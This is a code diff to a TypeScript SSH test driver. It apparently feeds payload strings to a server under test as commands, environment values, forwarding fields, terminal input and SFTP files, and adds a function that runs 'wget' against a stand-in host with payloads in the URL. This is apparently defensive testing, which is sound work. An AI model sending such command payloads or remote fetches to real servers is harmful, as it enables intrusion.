@@ -5,6 +5,9 @@ import { Client, message, text, u32 } from '../real/ssh/client.ts';
 
 /** Milliseconds that one answer is waited for; what comes later is not of interest. */
 const PATIENCE = 5_000;
+const SILENT = 2_500;
+/** Commands at once in one connection: sshd's MaxSessions less those that a terminal and SFTP need. */
+export const TOGETHER = 8;
 const FILE_WRITE = 0x02 | 0x08 | 0x10;
 
 /** Runs `job` for each item, so many at once; on a busy machine a connection may be lost, and is tried again. */
@@ -54,16 +57,26 @@ export async function stay(port: number, payloads: readonly string[]): Promise<v
   client.send(message(50, user, 'ssh-connection', 'publickey', false, user, text(user)));
   client.send(message(50, user, 'ssh-connection', 'password', false, user));
   await client.until(52);
-  await commands(client, payloads.map(bytes));
-  await commands(
-    client,
-    payloads.map((payload) => bytes(`wget -q http://198.51.100.9/${quoted(payload)}`)),
-  );
+  for (let at = 0; at < payloads.length; at += TOGETHER)
+    await commands(client, payloads.slice(at, at + TOGETHER).map(bytes));
   for (const payload of payloads.map(bytes))
     client.send(message(90, 'direct-tcpip', 99, 1 << 16, 1 << 14, payload, 80, payload, 4711));
   await terminal(client, payloads);
-  await upload(client, payloads.map(bytes));
   await client.pause(100);
+  client.close();
+}
+
+/** Brings files named by the payloads, and asks for some whose URLs hold them; nobody waits for answers that never come. */
+export async function bring(port: number, payloads: readonly string[]): Promise<void> {
+  const client = await begin(port, 'files');
+  client.send(message(50, 'root', 'ssh-connection', 'password', false, 'files'));
+  await client.until(52);
+  await upload(client, payloads.map(bytes));
+  for (const [channel, payload] of payloads.entries()) {
+    if (!(await opened(client, channel + 1))) continue;
+    client.request('exec', true, bytes(`wget -q http://198.51.100.9/${quoted(payload)}`));
+  }
+  await quiet(client, 800);
   client.close();
 }
 
@@ -76,13 +89,7 @@ async function commands(client: Client, lines: readonly string[]): Promise<void>
     client.request('env', false, command, command);
     client.request('exec', true, command);
   }
-  // Those that wait for an answer of the network are not waited for.
-  let ended = 0;
-  for (let payload: Buffer | undefined; ended < channels.length; ) {
-    payload = await client.next(1500);
-    if (!payload) break;
-    if (payload[0] === 97) ended++;
-  }
+  await ended(client, channels.length);
   for (const channel of channels) client.send(message(97, channel));
   await quiet(client);
 }
@@ -113,7 +120,7 @@ async function terminal(client: Client, payloads: readonly string[]): Promise<vo
   }
   await quiet(client, 200);
   client.send(message(94, client.channel, 'exit\r'));
-  await quiet(client);
+  await ended(client, 1);
 }
 
 /** Files by SFTP (version 3) whose names and contents are payloads. */
@@ -150,6 +157,15 @@ async function handleOf(client: Client, id: number): Promise<Buffer | undefined>
     }
   }
   return undefined;
+}
+
+/** Waits for so many channels to be closed; one that is silent too long waits for input and is left alone. */
+async function ended(client: Client, channels: number): Promise<void> {
+  for (let closed = 0; closed < channels; ) {
+    const payload = await client.next(SILENT);
+    if (!payload) return;
+    if (payload[0] === 97) closed++;
+  }
 }
 
 /** Takes what comes until nothing more does for a moment. */
